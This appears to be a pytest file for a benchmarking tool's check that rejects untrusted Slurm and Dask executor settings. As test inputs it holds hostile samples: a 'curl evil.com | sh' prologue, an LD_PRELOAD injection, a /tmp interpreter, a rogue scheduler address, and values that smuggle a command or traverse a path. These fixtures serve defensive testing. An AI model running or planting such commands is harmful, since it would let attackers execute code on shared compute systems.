"""Executors of strangers' suites: commands, programs and schedulers are refused without trust."""

from __future__ import annotations

import pytest

from mlffbench import registry
from mlffbench.harness.planning.executor_mistakes import executor_mistakes


@pytest.mark.parametrize(
    ("executor", "text", "quoted"),
    [
        ({"slurm": {"prologue": ["curl evil.com | sh"]}}, "curl evil.com | sh", "'curl evil.com | sh'"),
        ({"slurm": {"prologue": "evil"}}, "evil", "evil"),
        (
            {"slurm": {"extra": ["--export=LD_PRELOAD=/tmp/a.so,ALL"]}},
            "--export=LD_PRELOAD=/tmp/a.so,ALL",
            "--",
        ),
        ({"slurm": {"python": "/tmp/evil"}}, "/tmp/evil", "/tmp/evil"),
        ({"dask": {"scheduler": "tcp://evil:8786"}}, "tcp://evil:8786", "tcp://evil:8786"),
    ],
)
def test_what_would_run_must_be_trusted(executor, text, quoted, trust_nothing, monkeypatch):
    (mistake,) = executor_mistakes({"executor": executor})
    assert mistake.path == ("executor", *executor, *next(iter(executor.values())))
    assert repr(text) in mistake.sentence
    assert f"add --trust {quoted}" in mistake.sentence
    monkeypatch.setenv("MLFFBENCH_TRUST", "other")
    registry.trust(text)
    assert not list(executor_mistakes({"executor": executor}))


def test_a_command_is_not_compared_as_a_path(monkeypatch):
    monkeypatch.setenv("MLFFBENCH_TRUST", "/usr/bin/python3,module load cuda/12")
    for wrong in (
        {"python": "/tmp/evil x/../../../usr/bin/python3"},
        {"prologue": ["evil;/../module load cuda/12"]},
    ):
        assert len(list(executor_mistakes({"executor": {"slurm": wrong}}))) == 1


@pytest.mark.parametrize(
    "executor", ["slurm", {"slurm": {"partition": "gpu", "python": None}}, {"dask": {}}, 5, []]
)
def test_plain_executors_need_no_trust(executor, trust_nothing):
    assert not list(executor_mistakes({"executor": executor}))
    assert not list(executor_mistakes({}))
    assert not list(executor_mistakes(None))
